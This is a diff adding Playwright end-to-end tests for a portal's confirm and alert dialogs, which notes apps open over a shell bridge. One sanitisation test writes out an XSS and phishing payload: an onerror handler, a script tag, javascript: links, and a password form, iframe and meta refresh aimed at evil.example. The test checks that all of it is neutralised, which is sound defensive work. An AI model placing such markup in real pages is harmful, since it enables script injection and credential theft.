@@ -1,0 +1,178 @@
+import type { Frame, Locator, Page } from 'playwright';
+import { describe, expect, test } from 'vitest';
+import type { MethodRequest } from '#bridge/methods/define.ts';
+import type { ShellMethods } from '#bridge/methods/index.ts';
+import { violationsOf } from '#tests/support/axe.ts';
+import { appFrame, type Look, openApp, signIn } from '#tests/support/portal.ts';
+import { portalOfFile } from '#tests/support/portal-of-file.ts';
+
+const portal = portalOfFile({ language: 'zh-CN' });
+
+type Words = MethodRequest<ShellMethods['dialogs']['confirm']>;
+
+interface Asking {
+  readonly page: Page;
+  readonly note: Frame;
+  readonly dialog: Locator;
+  /** What the app was answered; `none` while it waits. */
+  answer(): Promise<string>;
+}
+
+/** Lets a note app ask something over the shell. */
+async function ask(words: Words, look?: Look): Promise<Asking> {
+  const page = await portal.visit(look);
+  await signIn(page, 'admin');
+  await appFrame(page, 'ums');
+  const note = await openApp(page, '便签1', 'note-1');
+  await note.evaluate((given) => {
+    document.body.dataset.answer = 'none';
+    window.bridge.dialogs.confirm(given).then(
+      ({ confirmed, answer }) => {
+        document.body.dataset.answer = `${confirmed} ${answer}`;
+      },
+      (error) => {
+        document.body.dataset.answer = error.code;
+      },
+    );
+  }, words);
+  return {
+    page,
+    note,
+    dialog: page.getByRole('alertdialog'),
+    answer: () => note.evaluate(() => document.body.dataset.answer ?? ''),
+  };
+}
+
+const whole: Words = {
+  title: '合同续签',
+  subtitle: '周雨桐 · 产品设计师',
+  tooltip: '续签后的合同自原合同到期次日起生效。',
+  heading: '确定发起续签？',
+  html: '<p>合同期限：<b>3 年</b></p><ul><li>附件一</li><li>附件二</li></ul>',
+  okText: { 'zh-CN': '发起续签', en: 'Renew' },
+  cancelText: { 'zh-CN': '以后再说', en: 'Later' },
+  immediate: true,
+  immediateText: { 'zh-CN': '立即签署', en: 'Sign now' },
+};
+
+async function chooseLanguage(page: Page, menu: string, language: string): Promise<void> {
+  await page.getByRole('button', { name: menu, exact: true }).click();
+  await page.locator('[role^="menuitem"]', { hasText: language }).click();
+}
+
+describe('an app asks over the shell', () => {
+  test('with everything the generic confirm has, under its own name', async () => {
+    const { page, dialog, answer } = await ask(whole);
+    await dialog.waitFor();
+    expect((await dialog.boundingBox())?.width).toBe(504);
+    for (const words of ['周雨桐 · 产品设计师', '确定发起续签？', '合同期限：3 年', '便签1']) {
+      await dialog.getByText(words).waitFor();
+    }
+    expect(await dialog.getByRole('listitem').allInnerTexts()).toEqual(['附件一', '附件二']);
+    await expect
+      .poll(() => page.evaluate(() => document.activeElement?.textContent))
+      .toBe('以后再说');
+    expect(await violationsOf(page)).toEqual([]);
+    await dialog.getByRole('button', { name: '说明：合同续签' }).click();
+    await page.getByText('续签后的合同自原合同到期次日起生效。').waitFor();
+    await page.keyboard.press('Escape');
+    await dialog.getByRole('button', { name: '发起续签' }).click();
+    await expect.poll(answer).toBe('true ok');
+  });
+
+  test('and is told when the person sees to it at once', async () => {
+    const { dialog, answer } = await ask(whole);
+    await dialog.getByRole('button', { name: '立即签署' }).click();
+    await expect.poll(answer).toBe('false immediate');
+  });
+
+  test('with answers in the language of the portal', async () => {
+    const { page, note, dialog } = await ask({ title: '提示', text: '稍候' });
+    await page.keyboard.press('Escape');
+    await chooseLanguage(page, '语言', 'English');
+    await note.evaluate((words) => void window.bridge.dialogs.confirm(words), whole);
+    for (const name of ['Renew', 'Later', 'Sign now']) {
+      await dialog.getByRole('button', { name, exact: true }).waitFor();
+    }
+    await page.keyboard.press('Escape');
+    await chooseLanguage(page, 'Language', '简体中文');
+  });
+
+  test('and a click beside it closes nothing, while Escape does', async () => {
+    const { page, dialog, answer } = await ask({ ...whole, immediate: false });
+    await dialog.waitFor();
+    await page.mouse.click(20, 400);
+    await page.waitForTimeout(300);
+    expect(await dialog.isVisible()).toBe(true);
+    await page.keyboard.press('Escape');
+    await expect.poll(answer).toBe('false cancel');
+  });
+
+  test('without a cross, or without answers, but never without both', async () => {
+    const first = await ask({ title: '提示', heading: '请阅读', hideClose: true });
+    await first.dialog.getByRole('button', { name: '确定' }).waitFor();
+    expect(await first.dialog.getByLabel('关闭').count()).toBe(0);
+    const second = await ask({ title: '提示', heading: '请阅读', hideFoot: true });
+    await second.dialog.waitFor();
+    expect(await second.dialog.getByRole('button').count()).toBe(1);
+    const third = await ask({ title: '提示', heading: '请', hideFoot: true, hideClose: true });
+    await expect.poll(third.answer).toBe('badInput');
+  });
+
+  test('only to be read, with one answer', async () => {
+    const { dialog, answer } = await ask({ title: '提示', heading: '请阅读', readOnly: true });
+    await dialog.getByRole('button', { name: '我知道了' }).click();
+    await expect.poll(answer).toBe('false cancel');
+  });
+});
+
+test('a hostile text in HTML does nothing but be read, and its links say where they lead', async () => {
+  const html = `<img src="x" onerror="document.title='run'"><script>document.title='run'</script>
+    <p onclick="document.title='run'">1 &lt; 2 &#x202E;</p><svg onload="document.title='run'"></svg>
+    <a href="javascript:document.title='run'">script</a>
+    <a href="https://bank.example@evil.example/">bank.example</a>
+    <form action="https://evil.example"><input name="password"><button>登录</button></form>
+    <iframe src="https://evil.example"></iframe><style>body{display:none}</style>
+    <meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`;
+  const { page, dialog } = await ask({ title: '登录失效', html });
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await dialog.getByText('1 < 2').waitFor();
+  expect(await dialog.innerText()).not.toContain('\u202E');
+  await dialog.getByText('script', { exact: true }).click();
+  const odd = 'img, script, form, input, iframe, style, meta, base, [onclick], [style*=url]';
+  expect(await dialog.locator(odd).count()).toBe(0);
+  expect(await dialog.getByRole('button', { name: '登录' }).count()).toBe(0);
+  const link = dialog.getByRole('link');
+  expect(await link.getAttribute('href')).toBe('https://bank.example@evil.example/');
+  expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
+  await dialog.getByText('(evil.example)').waitFor();
+  await dialog.getByText('便签1').waitFor();
+  expect(await page.title()).not.toBe('run');
+  expect(asked.filter((address) => address.includes('evil'))).toEqual([]);
+});
+
+test('a long text scrolls inside of the dialog, and its answers stay in reach', async () => {
+  const { dialog } = await ask({ title: '条款', html: '<p>条</p>'.repeat(800) });
+  const ok = dialog.getByRole('button', { name: '确定' });
+  await ok.waitFor();
+  const box = await ok.boundingBox();
+  expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThan(860);
+});
+
+test('an app can say something that waits until it was read', async () => {
+  const page = await portal.visit();
+  await signIn(page, 'admin');
+  await appFrame(page, 'ums');
+  const note = await openApp(page, '便签1', 'note-1');
+  await note.evaluate(() => {
+    void window.bridge.dialogs.alert({ title: '已提交', text: '审批完成前不可修改。' }).then(() => {
+      document.body.dataset.answer = 'read';
+    });
+  });
+  const dialog = page.getByRole('alertdialog', { name: '已提交' });
+  await dialog.getByText('审批完成前不可修改。').waitFor();
+  expect(await note.evaluate(() => document.body.dataset.answer)).toBeUndefined();
+  await dialog.getByRole('button', { name: '我知道了' }).click();
+  await expect.poll(() => note.evaluate(() => document.body.dataset.answer)).toBe('read');
+});
